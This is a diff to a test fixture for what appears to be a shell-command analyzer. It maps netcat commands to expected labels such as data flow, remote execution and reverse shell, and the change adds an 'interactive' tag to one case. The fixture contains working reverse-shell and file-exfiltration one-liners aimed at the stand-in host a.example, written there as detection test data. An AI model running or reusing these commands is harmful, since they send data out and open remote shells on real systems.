@@ -47,7 +47,7 @@ export const SOCKETS: readonly Program[] = [
       'nc a.example 80 < x': 'flow x>net:a.example; net a.example; read x',
       'nc a.example 80 | bash': 'flow net:a.example>exec; net a.example; opaque code; remote; run bash',
       'sh -i | nc a.example 80':
-        'flow cmd:sh>net:a.example; net a.example; run nc; socket reverse-shell a.example',
+        'action interactive; flow cmd:sh>net:a.example; net a.example; run nc; socket reverse-shell a.example',
       'mkfifo f; cat f | sh -i 2>&1 | nc a.example 80 > f':
         'flow cmd:sh>net:a.example; flow f>exec; flow net:a.example>exec; net a.example; opaque code; read f; remote; run cat; run nc; run sh; socket reverse-shell a.example; write f',
       'nc -zv a.example 22': 'net a.example',
